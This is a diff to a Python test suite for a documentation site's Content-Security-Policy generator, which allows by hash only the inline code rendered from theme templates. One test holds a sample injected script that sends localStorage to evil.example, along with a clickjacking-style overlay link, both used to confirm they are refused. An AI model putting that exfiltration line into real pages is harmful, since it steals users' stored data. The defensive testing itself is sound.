@@ -7,11 +7,13 @@ import hashlib
 import re
 from pathlib import Path
 
+import jinja2
 from playwright.sync_api import Page
 from test_browser import site_pages
 
 from conftest import CSP_VIOLATIONS
-from credential_guides.csp import policy_for, with_content_security_policy
+from credential_guides.csp import OwnInlineCode, policy_for, with_policy
+from credential_guides.project import load_project
 
 CSP_META = re.compile(r'<head>\n<meta charset="utf-8">\n<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
 
@@ -24,35 +26,89 @@ def directives(policy: str) -> dict[str, list[str]]:
     return {name: values for name, *values in (part.split() for part in policy.split("; "))}
 
 
-def test_inline_scripts_and_styles_are_allowed_by_hash_and_nothing_else() -> None:
+TEMPLATES = [
+    '<head><script>var a = 1;</script><script>__scope=new URL("{{ base_url }}",location)</script>'
+    '<script type="module">import "./y.js";</script><script src="x.js"></script>'
+    "<style>p{color:{{ config.color }}}</style></head>",
+    '<body><script type="application/json" id="data">{{ data | tojson }}</script></body>',
+]
+
+
+def own_code() -> OwnInlineCode:
+    return OwnInlineCode.from_templates(TEMPLATES, jinja2.Environment())
+
+
+def test_the_policy_allows_by_hash_only_the_inline_code_the_templates_wrote() -> None:
     page = (
         '<html><head><meta charset="utf-8"><style>p{color:red}</style></head><body>'
-        '<script>var a = 1;</script><script type="application/json" id="data">{"a": 1}</script>'
-        '<script src="x.js"></script><script type="module">import "./y.js";</script>'
-        '<div style="--cg-lines: 4"></div><div style="--cg-lines: 4"></div><p style=\'color: &quot;x&quot;\'></p>'
-        "</body></html>"
+        '<script>var a = 1;</script><script>__scope=new URL("../..",location)</script>'
+        '<script type="module">import "./y.js";</script><script src="x.js"></script>'
+        '<script type="application/json" id="data">{"a": 1}</script></body></html>'
     )
-    policy = directives(policy_for(page))
-    assert policy["script-src"] == ["'self'", sha256("var a = 1;"), sha256('import "./y.js";')]
-    assert policy["style-src"] == [
+    allowed = own_code().allowed({"base_url": "../..", "config": {"color": "red"}})
+    policy = policy_for(page, allowed)
+    rules = directives(policy.text)
+    assert rules["script-src"] == [
         "'self'",
-        sha256("p{color:red}"),
-        "'unsafe-hashes'",
-        sha256("--cg-lines: 4"),
-        sha256('color: "x"'),
+        sha256("var a = 1;"),
+        sha256('__scope=new URL("../..",location)'),
+        sha256('import "./y.js";'),
     ]
-    assert policy["default-src"] == ["'self'"]
-    assert policy["form-action"] == ["'none'"]
-    assert policy["object-src"] == ["'none'"]
-    assert "'wasm-unsafe-eval'" in directives(policy_for(page, webassembly=True))["script-src"]
-    assert "'unsafe-inline'" not in policy_for(page) and "'unsafe-eval'" not in policy_for(page)
+    assert rules["style-src"] == ["'self'", sha256("p{color:red}")]
+    assert rules["default-src"] == ["'self'"]
+    assert rules["form-action"] == ["'none'"]
+    assert rules["object-src"] == ["'none'"]
+    assert policy.refused == ""
+    assert "'wasm-unsafe-eval'" in directives(policy_for(page, allowed, webassembly=True).text)["script-src"]
+    for never in ("'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'"):
+        assert never not in policy.text
+
+
+def test_inline_code_no_template_wrote_is_never_hashed_and_is_counted() -> None:
+    """What data slipped into a page (or a page in docs/ wrote) gets no hash, whatever it is."""
+    page = (
+        '<html><head><meta charset="utf-8"><style>p{color:blue}</style></head><body>'
+        '<script>var a = 1;</script><script>fetch("//evil.example/?"+localStorage)</script>'
+        '<script>__scope=new URL("/elsewhere",location)</script>'
+        '<a style="position:fixed;inset:0" href="https://evil.example/">x</a><p STYLE = "color:red">y</p></body></html>'
+    )
+    policy = policy_for(page, own_code().allowed({"base_url": "../..", "config": {"color": "red"}}))
+    rules = directives(policy.text)
+    assert rules["script-src"] == ["'self'", sha256("var a = 1;")]
+    assert rules["style-src"] == ["'self'"]
+    assert (policy.refused_scripts, policy.refused_styles) == (2, 3)
+    assert policy.refused == "2 inline script(s) and 3 inline style(s)"
 
 
 def test_the_policy_goes_first_in_the_head() -> None:
     page = '<html><head>\n<meta charset="utf-8">\n<title>t</title><script>go()</script></head></html>'
-    written = with_content_security_policy(page)
+    code = OwnInlineCode.from_templates(["<script>go()</script>"], jinja2.Environment())
+    written = with_policy(page, policy_for(page, code.allowed({})))
     assert written.index("Content-Security-Policy") < written.index("<title>")
     assert sha256("go()") in written
+
+
+def test_the_built_pages_list_only_hashes_of_the_theme_templates_code(site: Path) -> None:
+    """Every hash in every page's policy is of a script or style rendered from a template's source."""
+    from mkdocs.config import load_config
+    from mkdocs.utils import get_relative_url
+
+    config = load_config(str(Path(__file__).parents[1] / "mkdocs.yml"))
+    colours = load_project(Path(__file__).parents[1]).settings.colors
+    config.extra["cg_colors"] = {"primary": colours.primary, "accent": colours.accent}  # as the build sets them
+    code = OwnInlineCode.from_theme_dirs([Path(d) for d in config.theme.dirs], config.theme.get_env())
+    seen: set[str] = set()
+    for html in sorted(site.rglob("*.html")):
+        relative = html.relative_to(site).as_posix()
+        # MkDocs' base_url: relative for pages, the site's path for the 404 template.
+        base_url = "/" if relative == "404.html" else get_relative_url(".", relative.removesuffix("index.html"))
+        scripts, styles = code.allowed({"config": config, "base_url": base_url})
+        own = {sha256(s) for s in scripts | styles}
+        policy = directives(CSP_META.search(html.read_text(encoding="utf-8")).group(1))  # type: ignore[union-attr]
+        hashes = [h for h in policy["script-src"] + policy["style-src"] if h.startswith("'sha256-")]
+        assert set(hashes) <= own, relative
+        seen.update(hashes)
+    assert len(seen) >= 4, "Material's scope script at several depths, its tabs script, ours, the colours"
 
 
 def test_every_built_page_carries_a_policy_that_keeps_input_on_the_device(site: Path) -> None:
